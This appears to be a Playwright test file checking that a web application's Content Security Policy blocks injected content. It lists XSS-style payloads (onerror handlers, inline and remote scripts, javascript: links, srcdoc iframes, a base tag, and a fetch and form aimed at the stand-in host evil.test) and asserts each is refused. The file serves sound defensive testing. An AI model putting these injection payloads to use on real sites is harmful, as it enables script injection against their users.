"""Whatever slips into a page runs nothing, loads nothing and sends nothing anywhere."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Page

from tests.browser.conftest import Theatre

pytestmark = pytest.mark.browser

# Each tries to set `window.slipped` or to reach elsewhere, as a text could that was shown unescaped.
INTRUDERS = {
    "a handler": """put('<img src=x onerror="window.slipped = 1">')""",
    "a script": "script({ textContent: 'window.slipped = 1' })",
    "a script from elsewhere": "script({ src: 'https://evil.test/x.js' })",
    "a script as data": "script({ src: 'data:text/javascript,window.slipped=1' })",
    "a link that is a script": """put('<a href="javascript:window.slipped=1">x</a>').click()""",
    "a frame": """put('<iframe src="https://evil.test/"></iframe>')""",
    "a frame of text": """put('<iframe srcdoc="<script>parent.slipped=1</script>"></iframe>')""",
    "an object": """put('<object data="/healthz" type="text/html"></object>')""",
    "a style": "put('<style>body { display: none }</style>')",
    "a picture from elsewhere": """put('<img src="https://evil.test/x.png">')""",
    "a message elsewhere": "fetch('https://evil.test/').catch(() => {})",
    "a worker": "new Worker('/static/js/page.js')",
    "another base": """put('<base href="https://evil.test/">')""",
    "a form elsewhere": """put('<form action="https://evil.test/"></form>').submit()""",
}
SLIP_IN = """() => new Promise((told) => {
    document.addEventListener("securitypolicyviolation", (event) => told(event.effectiveDirective));
    const box = document.createElement("div");
    document.body.append(box);
    const put = (html) => { box.innerHTML = html; return box.firstChild; };
    const script = (fields) => box.append(Object.assign(document.createElement("script"), fields));
    try { %s; } catch { /* the browser may also refuse at once */ }
    setTimeout(() => told(""), 2000);
})"""


@pytest.fixture
def unwatched(context: BrowserContext, theatre: Theatre) -> Iterator[Page]:
    """Return an open page; what the browser complains about is the point."""
    page = context.new_page()
    page.goto(theatre.at("runs/"))
    yield page
    page.close()


@pytest.mark.parametrize("intruder", INTRUDERS)
def test_what_slips_in_is_stopped_by_the_policy(unwatched: Page, intruder: str) -> None:
    before = unwatched.url

    stopped = unwatched.evaluate(SLIP_IN % INTRUDERS[intruder])

    # A frame of text has the page's policy, but is told of in its own document.
    assert stopped or intruder == "a frame of text", "the browser had nothing against it"
    assert unwatched.evaluate("window.slipped ?? null") is None
    assert unwatched.url == before
    assert unwatched.locator("body").is_visible()


def test_text_cannot_be_run_as_code(unwatched: Page) -> None:
    unwatched.evaluate("""() => {
        const run = document.createElement("button");
        run.setAttribute("onclick", "window.slipped = 1");
        document.body.append(run);
        run.click();
    }""")

    assert unwatched.evaluate("window.slipped ?? null") is None


def test_no_other_page_can_show_ours_in_a_frame(context: BrowserContext, theatre: Theatre) -> None:
    page = context.new_page()
    with page.expect_console_message(lambda said: said.type == "error"):  # with which the browser refuses
        page.set_content(f'<iframe src="{theatre.at()}"></iframe>')

    texts = [frame.content() for frame in page.frames if frame != page.main_frame]

    assert not any("side-title" in text for text in texts)
    page.close()
